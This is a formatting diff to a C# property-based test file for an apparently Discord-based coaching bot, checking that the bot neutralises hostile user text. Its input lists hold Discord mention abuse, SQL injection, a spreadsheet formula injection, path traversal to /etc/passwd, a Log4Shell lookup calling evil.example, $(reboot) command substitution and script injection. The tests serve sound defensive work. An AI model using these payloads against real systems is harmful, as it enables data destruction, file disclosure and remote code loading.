@@ -30,24 +30,33 @@ public sealed class HostileTextTests
 
     private static readonly string[] Hostile =
     [
-        "@everyone", "@here", "<@999>", "<@!999>", "<@&999>", "<#999>", "</kick:999>", "<t:0:R>", "<:x:999>", "<a:x:999>", "<id:customize>", "[free](https://evil.example)",
-        "https://evil.example", "<https://evil.example>", "```\n@everyone\n```", "`x`", "**evil**", "__evil__", "~~evil~~", "||evil||", "-# small", "# big", "> quote", ">>> quote", "1. one", "- one", "* one",
+        "@everyone", "@here", "<@999>", "<@!999>", "<@&999>", "<#999>", "</kick:999>", "<t:0:R>", "<:x:999>",
+        "<a:x:999>", "<id:customize>", "[free](https://evil.example)",
+        "https://evil.example", "<https://evil.example>", "```\n@everyone\n```", "`x`", "**evil**", "__evil__", "~~evil~~",
+        "||evil||", "-# small", "# big", "> quote", ">>> quote", "1. one", "- one", "* one",
         "\u202Eevil\u202C", "\u2066x\u2069", "a\u200Bb\u200Dc\uFEFF", "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324", "\ud800", "x\udc00y", "nul\0nul", "\u001b[31m", "\ue000", "\\", "\\@everyone", "\\\\@everyone",
-        "@\u200Beveryone", "@every\u00ADone", "line\r\n@everyone", "<@\n&999>", "<<@999>>", "[[x](https://evil.example)](https://evil.example)", "\U000E0041\U000E0042",
+        "@\u200Beveryone", "@every\u00ADone", "line\r\n@everyone", "<@\n&999>", "<<@999>>",
+        "[[x](https://evil.example)](https://evil.example)", "\U000E0041\U000E0042",
     ];
 
     /// <summary>Rows of strings that other programs have tripped over: databases, spreadsheets, calendars, files.</summary>
     private static readonly string[] Injections =
     [
-        "'; drop table teams; --", "\" or 1=1 --", "Robert'); delete from check_ins where ('1'='1", "x' union select value from secrets --", "%' or '1'='1", "@team", ":team", "$1", "?1", "\\'; --", "/* */", "1; attach database 'x.db' as x",
+        "'; drop table teams; --", "\" or 1=1 --", "Robert'); delete from check_ins where ('1'='1", "x' union select value from secrets --", "%' or '1'='1",
+        "@team", ":team", "$1", "?1", "\\'; --", "/* */", "1; attach database 'x.db' as x",
         "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\"a\",\"b\"", "a;b;c", "a\r\nb,c",
         "x\r\nBEGIN:VALARM\r\nEND:VALARM", "x\\nEND:VEVENT", "DTSTART;TZID=x:1",
-        "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "nul", "file:///etc/passwd", "a\0.png", new('a', 300), "{0}{1}{2}", "%s%n%x", "${jndi:ldap://evil.example}", "{{7*7}}", "$(reboot)", "`reboot`", "<script>alert(1)</script>", "<!--", "&lt;", "%00", "%2e%2e%2f",
+        "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "nul", "file:///etc/passwd", "a\0.png", new('a', 300), "{0}{1}{2}", "%s%n%x",
+        "${jndi:ldap://evil.example}", "{{7*7}}", "$(reboot)", "`reboot`", "<script>alert(1)</script>", "<!--", "&lt;", "%00", "%2e%2e%2f",
     ];
 
     /// <summary>Texts stitched of hostile pieces and anything else.</summary>
     public static Arbitrary<string> Texts() => Arb.From(
-        Gen.ListOf(Gen.OneOf(Gen.Elements(Hostile), Gen.Elements(Injections), ArbMap.Default.GeneratorFor<string>().Select(text => text ?? ""), Gen.Choose(0, 0xFFFF).Select(code => ((char)code).ToString())))
+        Gen.ListOf(Gen.OneOf(
+                Gen.Elements(Hostile),
+                Gen.Elements(Injections),
+                ArbMap.Default.GeneratorFor<string>().Select(text => text ?? ""),
+                Gen.Choose(0, 0xFFFF).Select(code => ((char)code).ToString())))
             .Select(pieces => string.Concat(pieces)));
 
     [Property(MaxTest = 3000, Arbitrary = [typeof(HostileTextTests)]), Fault("C14")]
@@ -100,9 +109,20 @@ public sealed class HostileTextTests
     public void TheCoachsLineIsHarmlessInTheReminderAndInTheAnswer(string typed)
     {
         var message = Markup.Clean(typed.Length > 300 ? typed[..300] : typed);
-        var day = new StrengthDay { TeamId = new TeamId(1), Number = 1, Weekdays = [IsoDayOfWeek.Tuesday], Time = new LocalTime(15, 30), ZoneId = "Europe/Berlin", ChannelId = new ChannelId(77), RoleId = new RoleId(700), Message = message.Length > 0 ? message : null };
+        var day = new StrengthDay
+        {
+            TeamId = new TeamId(1),
+            Number = 1,
+            Weekdays = [IsoDayOfWeek.Tuesday],
+            Time = new LocalTime(15, 30),
+            ZoneId = "Europe/Berlin",
+            ChannelId = new ChannelId(77),
+            RoleId = new RoleId(700),
+            Message = message.Length > 0 ? message : null,
+        };
         var now = Instant.FromUtc(2026, 11, 23, 12, 0);
-        var post = ReminderPost.Of(new Reminder(1, new Destination(1, day.TeamId, day.ChannelId, day.RoleId, day.Message), new LocalDate(2026, 11, 24), now, null, 0), isLate: false);
+        var post = ReminderPost.Of(
+            new Reminder(1, new Destination(1, day.TeamId, day.ChannelId, day.RoleId, day.Message), new LocalDate(2026, 11, 24), now, null, 0), isLate: false);
         var body = Some.Rendering().Body(post);
         Assert.Equal(["<@&700>"], DiscordText.Reaching(body.Content!));
         Assert.Empty(DiscordText.Unseemly(body.Content!));
@@ -116,7 +136,9 @@ public sealed class HostileTextTests
     {
         var rendering = Some.Rendering();
         var exercise = Shelves.Core.Exercises[(which & int.MaxValue) % Shelves.Core.Exercises.Count];
-        foreach (var body in (MessageBody[])[rendering.Body(Replies.PrivateCard(exercise, Shelves.Core, Some.Caller())), rendering.Body(Replies.PublicCard(exercise, Shelves.Core, Some.Caller())), rendering.Body(ExerciseCommand.UnknownName(typed, Shelves.Core, Shelves.Words))])
+        foreach (var body in (MessageBody[])[rendering.Body(Replies.PrivateCard(exercise, Shelves.Core, Some.Caller())),
+            rendering.Body(Replies.PublicCard(exercise, Shelves.Core, Some.Caller())),
+            rendering.Body(ExerciseCommand.UnknownName(typed, Shelves.Core, Shelves.Words))])
         {
             Fits.Discord(body);
             Assert.Empty(body.AllowedMentions.Roles);
@@ -128,16 +150,21 @@ public sealed class HostileTextTests
     [Property(MaxTest = 300, Arbitrary = [typeof(HostileTextTests)]), Fault("C14")]
     public void ATeamsOwnExerciseIsHarmlessWhateverItsCoachWrote(string typed)
     {
-        var lines = TeamExerciseText.Lines(typed).Select(line => line.Length > TeamExerciseText.LongestCue ? line[..TeamExerciseText.LongestCue] : line).DefaultIfEmpty("x").Take(TeamExerciseText.MostCues).ToList();
-        var own = Shelves.Own(lines[0].Length > TeamExerciseText.LongestName ? lines[0][..TeamExerciseText.LongestName] : lines[0]) with { Steps = lines, Cues = lines, Dose = lines[^1], Link = lines[0] };
+        var lines = TeamExerciseText.Lines(typed).Select(line => line.Length > TeamExerciseText.LongestCue ? line[..TeamExerciseText.LongestCue] : line)
+            .DefaultIfEmpty("x").Take(TeamExerciseText.MostCues).ToList();
+        var own = Shelves.Own(lines[0].Length > TeamExerciseText.LongestName ? lines[0][..TeamExerciseText.LongestName] : lines[0])
+            with { Steps = lines, Cues = lines, Dose = lines[^1], Link = lines[0] };
         var shelf = Shelves.With(own);
         var words = TeamExerciseWords.In(CoachBot.Language.Locale.English);
         var rendering = Some.Rendering();
-        foreach (var reply in (Reply[])[Replies.PublicCard(own, shelf, Some.Caller()) with { Text = words.Added(own.Name) }, Reply.Of(words.Retired(own.Name)), BrowseReplies.List(new BrowseFilter { Family = BrowseFilter.TeamFamily }, shelf, Shelves.Words), ConfirmImport.Done([own], [own], words)])
+        foreach (var reply in (Reply[])[Replies.PublicCard(own, shelf, Some.Caller()) with { Text = words.Added(own.Name) },
+            Reply.Of(words.Retired(own.Name)), BrowseReplies.List(new BrowseFilter { Family = BrowseFilter.TeamFamily }, shelf, Shelves.Words),
+            ConfirmImport.Done([own], [own], words)])
         {
             var body = rendering.Body(reply);
             Fits.Discord(body);
-            var shown = (body.Embeds ?? []).SelectMany(embed => (string?[])[embed.Title, embed.Description, .. embed.Fields.Select(field => field.Value)]).Append(body.Content).OfType<string>();
+            var shown = (body.Embeds ?? []).SelectMany(embed => (string?[])[embed.Title, embed.Description, .. embed.Fields.Select(field => field.Value)])
+                .Append(body.Content).OfType<string>();
             Assert.All(shown, text => Assert.Empty(DiscordText.Reaching(text)));
         }
     }
@@ -168,7 +195,8 @@ public sealed class HostileTextTests
             Fits.Discord(body);
             Assert.StartsWith("**Your team's strength days**", body.Content, StringComparison.Ordinal);
             Assert.DoesNotContain("…", body.Content, StringComparison.Ordinal);
-            numbers.AddRange(body.Content!.Split('\n').Where(line => line.StartsWith("**No. ", StringComparison.Ordinal)).Select(line => line[6..line.IndexOf(':', StringComparison.Ordinal)]));
+            numbers.AddRange(body.Content!.Split('\n').Where(line => line.StartsWith("**No. ", StringComparison.Ordinal))
+                .Select(line => line[6..line.IndexOf(':', StringComparison.Ordinal)]));
         }
         Assert.Equal(days.Select(day => day.Number.ToString(System.Globalization.CultureInfo.InvariantCulture)), numbers);
         Assert.Equal("short", Some.Rendering().Body(Reply.Of("short")).Content);
@@ -179,11 +207,13 @@ public sealed class HostileTextTests
     public async Task AFormsTextIsEscapedAsAnyOther()
     {
         await using var bot = await SmallBot.StartAsync(
-            new TryCommand(_ => Reply.Open(new Form(TryForm.Declared)), opensForm: true), new TryForm(call => Reply.Of($"You wrote {Markup.Quote(call.Text("body")!)}")));
+            new TryCommand(_ => Reply.Open(new Form(TryForm.Declared)), opensForm: true),
+            new TryForm(call => Reply.Of($"You wrote {Markup.Quote(call.Text("body")!)}")));
         foreach (var text in Hostile.Where(text => !text.Any(char.IsSurrogate) && Markup.Clean(text).Length > 0))
         {
             var open = await bot.Maya.TypeAsync("/try", TestContext.Current.CancellationToken);
-            var said = (await bot.Maya.SubmitAsync(open, new Dictionary<string, string> { ["title"] = "Tuesday", ["body"] = text }, TestContext.Current.CancellationToken)).Message!;
+            var said = (await bot.Maya.SubmitAsync(open, new Dictionary<string, string> { ["title"] = "Tuesday", ["body"] = text },
+                TestContext.Current.CancellationToken)).Message!;
             Assert.StartsWith("You wrote", said.Content, StringComparison.Ordinal);
             Assert.Empty(DiscordText.Live(said.Content));
             Assert.False(said.PingedEveryone);
@@ -227,9 +257,16 @@ public sealed class HostileTextTests
         foreach (var text in answer.Texts)
         {
             // Our own: the channel we post in, times, and an answer's sources, whose addresses nobody typed.
-            Assert.True(DiscordText.Reaching(text).All(found => IsOurLink(found, what) || found == "<#77>" || (found.StartsWith("<t:1", StringComparison.Ordinal) && found.EndsWith(":F>", StringComparison.Ordinal))), $"{what}: {text}");
+            Assert.True(
+                DiscordText.Reaching(text).All(found => IsOurLink(found, what) || found == "<#77>"
+                    || (found.StartsWith("<t:1", StringComparison.Ordinal) && found.EndsWith(":F>", StringComparison.Ordinal))),
+                $"{what}: {text}");
             Assert.True(DiscordText.Unseemly(text).Count == 0, $"{what}: {text}");
-            Assert.True(!text.Contains("**evil**", StringComparison.Ordinal) && !text.Contains("\n> quote", StringComparison.Ordinal) && !text.Contains("```", StringComparison.Ordinal), $"{what}: {text}");
+            Assert.True(
+                !text.Contains("**evil**", StringComparison.Ordinal)
+                    && !text.Contains("\n> quote", StringComparison.Ordinal)
+                    && !text.Contains("```", StringComparison.Ordinal),
+                $"{what}: {text}");
         }
     }
 }
